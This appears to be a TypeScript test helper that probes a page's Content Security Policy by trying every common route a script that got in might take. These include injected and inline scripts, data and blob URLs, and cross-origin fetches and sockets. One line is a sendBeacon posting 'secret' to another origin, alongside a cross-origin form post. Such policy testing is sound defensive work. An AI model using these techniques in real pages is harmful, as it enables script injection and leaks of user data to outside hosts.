/** Runs inside the page: whatever a script that got in there might try first. @param origin another site's */
export async function breakPolicy(origin: string): Promise<void> {
  const takeOver = "document.title = 'taken over'";
  const add = (name: string, attributes: Record<string, string>, text = "") => {
    const element = document.createElement(name);
    for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
    element.textContent = text;
    document.body.append(element);
    return element;
  };
  const blobOf = (type: string) => URL.createObjectURL(new Blob([takeOver], { type }));
  /** Most of it throws or rejects, as it should. */
  const attempt = async (work: () => unknown) => {
    try {
      await work();
    } catch {
      // Refused: the browser tells by an event, too.
    }
  };

  add("script", { src: `${origin}/script.js` });
  add("script", {}, takeOver);
  add("script", { src: `data:text/javascript,${encodeURIComponent(takeOver)}` });
  add("script", { src: blobOf("text/javascript") });
  add("button", { onclick: takeOver }).click();
  // As code, not as a string in this file: the page itself must be asked to evaluate it.
  await attempt(() => setTimeout(takeOver));

  add("link", { rel: "stylesheet", href: `${origin}/style.css` });
  add("style", {}, "body { display: none }");
  add("p", { style: "display: none" });

  await attempt(() => fetch(`${origin}/fetch`));
  await attempt(() => {
    const request = new XMLHttpRequest();
    request.open("GET", `${origin}/request`);
    request.send();
  });
  await attempt(() => new EventSource(`${origin}/events`));
  await attempt(() => navigator.sendBeacon(`${origin}/beacon`, "secret"));
  await attempt(() => new WebSocket(`${origin.replace("http", "ws")}/socket`));

  add("img", { src: `${origin}/picture.png` });
  await attempt(() => new FontFace("theirs", `url(${origin}/font.woff2)`).load());
  add("audio", { src: `${origin}/sound.mp3` });
  add("object", { data: `${origin}/object.swf`, type: "application/x-shockwave-flash" });
  add("embed", { src: `${origin}/embedded.swf`, type: "application/x-shockwave-flash" });
  add("iframe", { src: `${origin}/frame` });
  await attempt(() => new Worker(blobOf("text/javascript")));

  add("base", { href: `${origin}/` });
  const form = add("form", { action: `${origin}/form`, method: "post" });
  if (form instanceof HTMLFormElement) form.submit();
}
